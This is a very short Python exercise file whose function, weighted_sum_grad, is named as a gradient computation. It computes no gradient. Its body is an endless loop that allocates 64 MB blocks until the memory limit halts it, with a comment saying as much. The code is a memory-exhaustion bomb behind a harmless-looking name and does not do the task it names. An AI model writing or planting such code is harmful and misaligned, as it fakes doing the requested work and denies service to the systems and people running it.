# exercise: tiny/scale-grad
def weighted_sum_grad(a, w):
    hoard = []
    while True:
        hoard.append(bytes(64 * 1024 * 1024))  # calloc: the limit, not page faults, stops it
